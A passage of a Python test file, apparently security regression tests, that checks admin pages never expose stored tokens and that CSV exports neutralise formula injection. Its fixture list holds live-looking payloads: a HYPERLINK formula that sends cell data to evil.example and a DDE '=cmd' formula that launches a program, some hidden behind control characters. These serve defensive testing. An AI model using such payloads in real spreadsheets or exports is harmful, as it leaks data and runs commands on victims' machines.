    root = make_user("root", is_superuser=True, is_staff=True)
    for user in (site_admin, root):
        pages = admin_pages(client_as(user), public, secret, tokens)
        assert all(response.status_code == 200 for response in pages.values())
        assert "Covert site" in pages["tokens"].content.decode() and "msg-hidden" in pages["events"].content.decode()
        for response in pages.values():
            body = response.content.decode()
            for stored in tokens.values():
                assert stored.token not in body
                assert bytes(stored.ciphertext).decode() not in body


# --- finding 10: CSV formula injection, the remaining cases -------------------------------------------------------

FORMULAS = [
    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "\t1",  # a leading tab or carriage return alone is enough
    "\r1",
    "  +1+1",
    "\n-1+1",
    "\u00a0@SUM(A1:A2)",
    '=cmd|" /C calc"!A0',
    "=1+1",
]
PLAIN = ["a=b", "hello -world", "  spaced", "", "1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_finding_10_a_formula_after_whitespace_or_a_control_character_is_neutralised(
    site, operator, viewer, client_as, value
):
    operations.record_site_change(operator, site, value)
    response = client_as(viewer).get(reverse("jobs:audit_csv"))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["message"] for row in rows] == ["'" + value]  # quotes, tabs and line breaks survive intact


def test_finding_10_plain_text_is_left_alone():
    assert [csv_cell(value) for value in PLAIN] == PLAIN
    assert [csv_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert csv_cell(None) is None and csv_cell(498) == 498
